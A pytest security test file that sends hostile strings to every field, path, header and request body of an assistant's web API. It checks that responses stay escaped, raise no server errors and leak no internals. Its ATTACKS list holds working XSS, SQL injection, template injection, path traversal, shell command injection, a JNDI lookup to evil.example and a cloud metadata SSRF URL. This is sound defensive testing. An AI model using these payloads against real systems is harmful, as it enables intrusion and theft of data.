"""Strings meant to break something, in every field of every route: no 500, nothing unescaped, nothing given away."""

import json
import re
from html.parser import HTMLParser
from urllib.parse import quote

import pytest
from starlette.testclient import TestClient

from assistant.feedback import Feedback
from assistant.web import api

ATTACKS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "javascript:alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea><iframe src=//evil.example>",
    '<!--#exec cmd="id"-->',
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "{% import os %}{{ os.popen('id').read() }}",
    "{0.__class__.__init__.__globals__}",
    "%(secret)s %s %n %x",
    "' OR '1'='1",
    "'; DROP TABLE ratings; --",
    "1 UNION SELECT sqlite_version()",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "/etc/passwd\0.txt",
    "file:///etc/passwd",
    "; id",
    "$(id)",
    "`id`",
    "| cat /etc/passwd",
    "${jndi:ldap://evil.example/a}",
    "http://169.254.169.254/latest/meta-data/",
    "a\r\nSet-Cookie: owned=1",
    "a\r\n\r\n<script>alert(1)</script>",
    "\0",
    "\x1b[2J\x1b[31m",
    "\u202e\u2066evil\u2069",
    "\ufeff\u200b\u00ad",
    "e" + "\u0301" * 300,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\u0130\u0131\ufb03\u00df",
    "-1",
    "99999999999999999999",
    "NaN",
    "1e309",
    "true",
    "[]",
    '{"$gt": ""}',
    "__proto__",
    "constructor",
    "=cmd|' /C calc'!A0",
    "(" * 500,
    "(a+)+$",
    "x" * 2000,
]
LEAKS = re.compile(
    r"Traceback|site-packages|/home/|/root/|\.py\b|sqlite|uvicorn|starlette|fastapi|gradio|root:x:|pydantic",
    re.IGNORECASE,
)
FIELDS = ["q", "conversation", "expert", "topic", "limit", "lang", "format"]


@pytest.fixture(scope="module")
def client(assistant, tmp_path_factory):
    kept = Feedback(tmp_path_factory.mktemp("attacks") / "f.sqlite", 30)
    with TestClient(api.build(lambda: assistant, kept=kept)) as opened:
        yield opened
    kept.close()


class Elements(HTMLParser):
    """What a browser would make of a page: its elements and their attributes."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attributes):
        self.found.append((tag, attributes))


def harmless(response, attack):
    assert response.status_code < 500, response.text
    assert "owned" not in response.headers.get("set-cookie", "")
    kind = response.headers.get("content-type", "")
    if "html" in kind:
        parser = Elements()
        parser.feed(response.text)
        for tag, attributes in parser.found:
            assert tag not in ("iframe", "svg", "img"), attack
            for name, value in attributes:
                assert not name.startswith("on"), attack
                assert not (name in ("href", "src") and (value or "").strip().lower().startswith("javascript")), attack
        assert "alert(1)</script>" not in response.text
        assert "{{7*7}}" not in response.text
    elif "json" in kind:
        said = json.dumps(response.json(), ensure_ascii=False).replace(json.dumps(attack, ensure_ascii=False)[1:-1], "")
        if response.status_code >= 400:
            assert not LEAKS.search(said), said
            assert kind == "application/problem+json"


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda a: repr(a)[:30])
def test_attacks_in_every_field(client, attack):
    for path in ("/api/ask", "/ask"):
        for field in FIELDS:
            harmless(client.get(path, params={"q": "privacy", field: attack}), attack)
    for path in sorted(client.get("/api/openapi.json").json()["paths"]):
        harmless(
            client.get(re.sub(r"{\w+}", quote(attack, safe=""), path), params={"q": attack, "format": attack}), attack
        )
    for body in (
        {"quote_id": attack, "question": "q", "helpful": True},
        {"quote_id": "social-credit-roundtable:20698-21046", "question": attack, "helpful": True},
        {"quote_id": "social-credit-roundtable:20698-21046", "question": "q", "helpful": attack},
        {attack: 1},
        attack,
        [attack],
    ):
        harmless(client.post("/api/feedback", json=body), attack)
    for name in ("X-Request-ID", "Accept-Language", "If-None-Match", "X-Forwarded-For", "Accept", "Cookie", "Origin"):
        headers = {
            name: attack.encode("utf-8", "surrogatepass").replace(b"\r", b"").replace(b"\n", b"").replace(b"\0", b"")
        }
        harmless(client.get("/api/ask", params={"q": "privacy"}, headers=headers), attack)


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"{",
        b"[" * 15_000,
        b'{"quote_id": NaN}',
        b"\xff\xfe",
        b'{"helpful": 1e999}',
        b'{"a":' * 3_000,
        json.dumps({"quote_id": "\ud800", "question": "\ud800", "helpful": True}).encode(),
    ],
    ids=lambda b: repr(b[:12]),
)
@pytest.mark.parametrize(
    "kind", ["application/json", "text/plain", "application/xml", "multipart/form-data; boundary=x"]
)
def test_malformed_bodies(client, body, kind):
    response = client.post("/api/feedback", content=body, headers={"Content-Type": kind})
    harmless(response, "")
    assert 400 <= response.status_code < 500
